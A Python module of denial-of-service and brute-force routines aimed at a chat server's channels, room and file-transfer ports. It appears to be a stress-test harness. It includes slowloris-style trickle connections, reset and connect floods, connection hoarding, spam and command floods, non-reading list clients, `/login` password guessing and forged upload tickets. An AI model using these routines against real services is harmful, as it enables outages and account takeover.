"""Attacks on the TCP ports of channels, room and file transfers."""

import os
import select
import selectors
import socket
import ssl
import struct
import time

from place import again_and_again, random_name, reached

FRAME = 200
TCP = ["channels", "room", "forum"]
# connections that are opened before those that are there are looked at again
BATCH = 200


def frames(*texts):
    return b"".join(text.encode().ljust(FRAME) for text in texts)


def keep(size, connect, act=lambda sock: None, every=1.0):
    """Keeps `size` connections: those that were closed are opened again. Calls `act` with each, every so many seconds."""
    selector, free, first, acted = selectors.DefaultSelector(), list(range(size)), True, 0.0
    while True:
        failed = []
        for at in free[:BATCH]:
            try:
                sock = connect(at)
                sock.setblocking(False)
                selector.register(sock, selectors.EVENT_READ, at)
            except OSError:
                failed.append(at)
        free = free[BATCH:] + failed
        if first and (not free or failed):
            reached()
            first = False
        if time.monotonic() - acted >= every:
            acted = time.monotonic()
            for entry in list(selector.get_map().values()):
                try:
                    act(entry.fileobj)
                except OSError:
                    # it takes no more, or is closed
                    pass
        # what was refused at once comes again as fast as one core can
        for entry, _ in selector.select(0 if free and not failed else min(every, 0.05)):
            try:
                if entry.fileobj.recv(65_536):
                    continue
            except (BlockingIOError, ssl.SSLWantReadError, ssl.SSLWantWriteError):
                continue
            except OSError:
                pass
            selector.unregister(entry.fileobj)
            entry.fileobj.close()
            free.append(entry.data)


def resets(target, size):
    """Connections that are reset before they are accepted, so many a second on each port."""

    def act(at):
        sock = socket.socket()
        sock.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 1, 0))
        sock.setblocking(False)
        sock.connect_ex(target.address(TCP[at % 3]))
        sock.close()

    again_and_again(3 * size, act)


def connects(target, size, service=None):
    """Connections that end as soon as they are there, so many a second."""

    def act(at):
        try:
            target.connection(service or TCP[at % 3], at * 64).close()
        except OSError:
            pass

    again_and_again(size, act)


def hoard(target, size, service=None):
    """As many connections as there may be, which say nothing."""
    keep(size, lambda at: target.connection(service or ["channels", "room"][at % 2], at))


def loris(target, size, service, byte=b"x"):
    """Connections that send a byte a second and never an end."""
    keep(size, lambda at: target.connection(service, at), lambda sock: sock.send(byte))


def endless(target, size, service):
    """A line without an end on each connection, as fast as it is taken; frames of the channels that are full."""
    junk = b"x" * 65_536
    keep(size, lambda at: target.connection(service, at), lambda sock: sock.send(junk), every=0)


def speakers(target, size, service):
    """Members that speak as fast as they are read, and read themselves."""
    lines = (b"".join(b"spam spam spam\n" for _ in range(300)), frames(*["spam spam spam"] * 300))

    def connect(at):
        sock = target.connection(service, at)
        if service == "channels":
            sock.sendall(frames(f"mallory{at}", "/create spam", "/join spam"))
        return sock

    keep(size, connect, lambda sock: sock.send(lines[service == "channels"]), every=0)


def commands(target, size, service="channels"):
    """Names and channels without end: made, joined and left."""

    def act(sock):
        sock.send(frames(*[word for _ in range(20) for word in made(random_name())]))

    def made(name):
        return f"/create {name}{'x' * 100}", f"/create {name}", f"/join {name}", "/list"

    def connect(at):
        sock = target.connection(service, at)
        sock.sendall(frames("x" * FRAME))
        return sock

    keep(size, connect, act, every=0.01)


def logins(target, size, service, names="visitor"):
    """Guesses passwords by `/login`, on so many connections, each as fast as it is answered."""
    end = b"\n" if service.startswith("room") else b""

    def line():
        name = names if names != "anybody" else random_name()
        text = f"/login {name} {os.urandom(8).hex()}".encode()
        return text + end if end else text.ljust(FRAME)

    keep(size, lambda at: target.connection(service, at * 64), lambda sock: sock.send(line() * 4), every=0.02)


def unread(target, at):
    """A client of the channels that asks for the list 15 times and reads nothing."""
    sock = socket.socket()
    sock.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
    sock.bind((target.source(at // 64), 0))
    sock.settimeout(10)
    try:
        sock.connect(target.address("channels"))
        sock.sendall(frames("mallory", *["/list"] * 15))
        sock.setblocking(False)
    except OSError:
        pass
    return sock


def lists(target, size):
    """Clients of the channels that ask for the list of 1,000 long names and do not read it."""
    maker = target.connection("channels")
    maker.sendall(frames("mallory", *[f"/create {i:04}{'x' * 60}" for i in range(1000)], "/"))
    seen = b""
    maker.settimeout(30)
    while b"/ is not a valid" not in seen:
        seen = seen[-FRAME:] + maker.recv(65536)
    clients, watched, first, waiting = {}, select.poll(), True, range(size)
    while True:
        for at in waiting:
            client = unread(target, at)
            clients[client.fileno()] = client
            # it gets only the end
            watched.register(client, 0)
        if first:
            reached()
        first = False
        time.sleep(2)
        waiting = []
        for descriptor, _ in watched.poll(0):
            # it was cut off, and comes again
            watched.unregister(descriptor)
            clients.pop(descriptor).close()
            waiting.append(len(waiting))


def files(target, size, line=b"P1 upload 4fJmX0b2TzWq7yR1sNcVbA\n"):
    """First lines of the file transfer with tickets that nobody was given, or that are too long."""
    keep(size, lambda at: target.connection("forum", at), lambda sock: sock.send(line), every=0.02)
